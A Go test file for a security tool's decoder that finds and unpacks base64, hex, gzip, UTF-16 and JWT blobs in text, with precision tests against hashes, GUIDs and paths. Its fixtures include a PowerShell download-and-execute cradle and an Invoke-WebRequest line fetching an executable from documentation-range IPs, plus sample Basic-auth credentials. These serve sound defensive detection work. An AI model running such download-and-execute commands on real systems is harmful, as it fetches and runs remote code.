package unpack_test

import (
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/hunchsec/hunch/unpack"
)

const script = `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')`

// want describes the one top-level blob a case expects; an empty chain expects none.
type want struct {
	chain string
	kind  string
	text  string
}

func checkOne(t *testing.T, r unpack.Result, w want) {
	t.Helper()
	var top []unpack.Blob
	for _, b := range r.Blobs {
		if b.Parent == -1 {
			top = append(top, b)
		}
	}
	if w.chain == "" {
		if len(r.Blobs) != 0 {
			t.Fatalf("want no blob, got %d: %+v", len(r.Blobs), r.Blobs[0])
		}
		return
	}
	if len(top) != 1 {
		t.Fatalf("want 1 top-level blob, got %d: %+v", len(top), r.Blobs)
	}
	b := top[0]
	if b.Encoding() != w.chain || b.Kind != w.kind || (w.text != "" && b.Text != w.text) {
		t.Errorf("blob %s/%s %q, want %s/%s %q", b.Encoding(), b.Kind, trunc(b.Text, 100), w.chain, w.kind, trunc(w.text, 100))
	}
	if b.Err != nil {
		t.Errorf("unexpected error: %v", b.Err)
	}
}

func TestDetectBase64AndHex(t *testing.T) {
	text := "GET http://203.0.113.9/gate.php?id=42 HTTP/1.1 & more text"
	raw := []byte(text)
	std := base64.StdEncoding.EncodeToString(raw)
	url := base64.URLEncoding.EncodeToString([]byte("ÿþ~~~ subjects?>>> and <<<?>>> " + text)) // has - and _
	tests := []struct {
		name string
		in   string
		want want
	}{
		{"standard padded", "data: " + std + " end", want{"base64", "text", text}},
		{"standard unpadded", "data: " + strings.TrimRight(std, "=") + " end", want{"base64", "text", text}},
		{"standard in quotes", `{"payload":"` + std + `"}`, want{"base64", "text", text}},
		{"url-safe padded", "token=" + url, want{"base64", "text", "ÿþ~~~ subjects?>>> and <<<?>>> " + text}},
		{"url-safe unpadded", "token=" + strings.TrimRight(url, "="), want{"base64", "text", "ÿþ~~~ subjects?>>> and <<<?>>> " + text}},
		{"hex lower", "blob " + hex.EncodeToString(raw), want{"hex", "text", text}},
		{"hex upper", "blob " + strings.ToUpper(hex.EncodeToString(raw)), want{"hex", "text", text}},
		{"base64 at the end of a URL path", "GET https://cdn.example.com/x/" + strings.TrimRight(std, "=") + " 200", want{"base64", "text", text}},
		{"utf-16le by NUL pattern", "x " + b64(utf16le(text)), want{"base64>utf16le", "text", text}},
		{"utf-16be with BOM", "x " + b64(append([]byte{0xfe, 0xff}, utf16be(text)...)), want{"base64>utf16be", "text", text}},
		{"utf-16le with BOM, non-Latin", "x " + b64(append([]byte{0xff, 0xfe}, utf16le("Привет, мир! Скачать файл")...)), want{"base64>utf16le", "text", "Привет, мир! Скачать файл"}},
		{"utf-8 with BOM", "x " + b64(append([]byte{0xef, 0xbb, 0xbf}, raw...)), want{"base64", "text", text}},
		{"base64 of base64 is two blobs deep", "x " + b64([]byte("inner "+std)), want{"base64", "text", "inner " + std}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			checkOne(t, unpack.Unpack(tt.in), tt.want)
		})
	}
}

// utf16be encodes s as UTF-16BE bytes.
func utf16be(s string) []byte {
	b := utf16le(s)
	for i := 0; i+1 < len(b); i += 2 {
		b[i], b[i+1] = b[i+1], b[i]
	}
	return b
}

func TestMinLen(t *testing.T) {
	// 16 characters, decoding to 12 printable bytes.
	short := base64.StdEncoding.EncodeToString([]byte("hello world!"))
	if len(short) != 16 {
		t.Fatalf("len %d", len(short))
	}
	if r := unpack.Unpack("x " + short + " y"); len(r.Blobs) != 0 {
		t.Errorf("default MinLen: a 16-character run became a blob: %+v", r.Blobs[0])
	}
	u, err := unpack.New(unpack.Options{MinLen: 16})
	if err != nil {
		t.Fatal(err)
	}
	checkOne(t, u.Unpack("x "+short+" y"), want{"base64", "text", "hello world!"})
	u, _ = unpack.New(unpack.Options{MinLen: 17})
	if r := u.Unpack("x " + short + " y"); len(r.Blobs) != 0 {
		t.Errorf("MinLen 17: a 16-character run became a blob")
	}
}

// TestPrecision lists text that must not produce any blob.
func TestPrecision(t *testing.T) {
	random32 := b64([]byte{0x8f, 0x13, 0xa7, 0x02, 0xee, 0x90, 0x41, 0xb3, 0x7c, 0x05, 0xd8, 0x66, 0x1a, 0xfe, 0x29, 0x94, 0x3b, 0xc1, 0x70, 0x0d, 0xaa, 0x58, 0xe3, 0x16, 0x9f, 0x84, 0x2c, 0xb5, 0x61, 0x0a, 0xdf, 0x47})
	tests := []struct{ name, in string }{
		{"runs of A", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},
		{"runs of slashes and plus", "//////////////////////////////// ++++++++++++++++++++++++"},
		{"md5", "hash d41d8cd98f00b204e9800998ecf8427e seen"},
		{"sha1", "sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		{"sha256", "SHA256:E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"},
		{"sha512", "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e"},
		{"guid", "ProcessGuid: {860ba2e3-9f13-5f52-2703-000000000400}"},
		{"guid upper", "{4D36E972-E325-11CE-BFC1-08002BE10318}"},
		{"windows path", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`},
		{"url path", "GET /api/v1/users/12345/profile/settings/notifications HTTP/1.1"},
		{"long identifiers", "ThisIsAVeryLongIdentifierName AnotherExtremelyLongFunctionName get_user_profile_settings_by_identifier"},
		{"camel case method", "System.Management.Automation.AmsiUtils InitializeComponentsForRendering"},
		{"base64 of random bytes", "ssh-ed25519 " + random32 + " user@host"},
		{"decimal digits", "id=123456789012345678901234567890"},
		{"kebab words", "the-quick-brown-fox-jumps-over-the-lazy-dog-again"},
		{"JWT signature alone", "sig SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"},
		{"user agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"},
		{"msticpy pads with A", "abc"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := unpack.Unpack(tt.in)
			if len(r.Blobs) != 0 {
				t.Errorf("got %d blobs, first %s/%s %q", len(r.Blobs), r.Blobs[0].Encoding(), r.Blobs[0].Kind, r.Blobs[0].Text)
			}
			if r.FullDecoded != tt.in {
				t.Errorf("FullDecoded changed: %q", r.FullDecoded)
			}
		})
	}
}

func TestJWT(t *testing.T) {
	jwt := "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
	r := unpack.Unpack("Authorization: Bearer " + jwt)
	got := texts(r)
	want := []string{`{"alg":"HS256","typ":"JWT"}`, `{"sub":"1234567890","name":"John Doe","iat":1516239022}`}
	if strings.Join(got, "|") != strings.Join(want, "|") || len(r.Blobs) != 2 {
		t.Errorf("JWT: header and payload expected as text, signature as nothing; got %q (%d blobs)", got, len(r.Blobs))
	}
}

func TestSpansAndFullDecoded(t *testing.T) {
	a := b64([]byte("first decoded text"))
	c := b64([]byte("second decoded text"))
	in := "one " + a + " two '" + c + "' three"
	r := unpack.Unpack(in)
	if len(r.Blobs) != 2 {
		t.Fatalf("got %d blobs", len(r.Blobs))
	}
	for i, enc := range []string{a, c} {
		b := r.Blobs[i]
		if in[b.Start:b.End] != enc || b.Parent != -1 || b.Depth != 1 || b.Index != i {
			t.Errorf("blob %d: span %q, parent %d, depth %d, index %d", i, in[b.Start:b.End], b.Parent, b.Depth, b.Index)
		}
	}
	if want := "one first decoded text two 'second decoded text' three"; r.FullDecoded != want {
		t.Errorf("FullDecoded = %q, want %q", r.FullDecoded, want)
	}
}

func TestWrappedBase64(t *testing.T) {
	payload := strings.Repeat("Line of a longer script: Invoke-WebRequest http://198.51.100.9/x -OutFile x.exe\n", 8)
	enc := b64(gz(t, []byte(payload)))
	wrap := func(s string, width int, nl string) string {
		var sb strings.Builder
		for len(s) > width {
			sb.WriteString(s[:width] + nl)
			s = s[width:]
		}
		sb.WriteString(s)
		return sb.String()
	}
	for _, tc := range []struct {
		name  string
		width int
		nl    string
	}{{"MIME CRLF 76", 76, "\r\n"}, {"PEM LF 64", 64, "\n"}} {
		t.Run(tc.name, func(t *testing.T) {
			block := wrap(enc, tc.width, tc.nl)
			in := "-----BEGIN DATA-----" + tc.nl + block + tc.nl + "-----END DATA-----"
			r := unpack.Unpack(in)
			if len(r.Blobs) != 1 || r.Blobs[0].Text != payload || r.Blobs[0].Encoding() != "base64>gzip" {
				t.Fatalf("blobs %+v", r.Blobs)
			}
			if got := in[r.Blobs[0].Start:r.Blobs[0].End]; got != block {
				t.Errorf("span %q, want the whole block", got)
			}
		})
	}
	// Two separate one-line blobs on consecutive lines are not joined.
	a, c := b64([]byte("first line of decoded text!!!")), b64([]byte("second line of decoded text!"))
	r := unpack.Unpack(a + "\n" + c)
	if got := texts(r); len(got) != 2 || got[0] != "first line of decoded text!!!" || got[1] != "second line of decoded text!" {
		t.Errorf("consecutive lines: %q", got)
	}
}

func TestNoHex(t *testing.T) {
	in := "blob " + hex.EncodeToString([]byte("hello world, this is hex!"))
	u, err := unpack.New(unpack.Options{NoHex: true})
	if err != nil {
		t.Fatal(err)
	}
	if r := u.Unpack(in); len(r.Blobs) != 0 {
		t.Errorf("NoHex: %+v", r.Blobs)
	}
	if r := unpack.Unpack(in); len(r.Blobs) != 1 {
		t.Errorf("hex on by default: %d blobs", len(r.Blobs))
	}
}

func TestBasicAuthCredentials(t *testing.T) {
	checkOne(t, unpack.Unpack("GET / HTTP/1.1 Authorization: Basic dXNlcjpwYXNzd29yZA=="), want{"base64", "text", "user:password"})
	checkOne(t, unpack.Unpack(`"authorization":"basic YWRtaW46aHVudGVyMg=="`), want{"base64", "text", "admin:hunter2"})
	// The same short run elsewhere stays below MinLen.
	checkOne(t, unpack.Unpack("token dXNlcjpwYXNzd29yZA=="), want{})
	checkOne(t, unpack.Unpack("Xbasic dXNlcjpwYXNzd29yZA=="), want{})
}
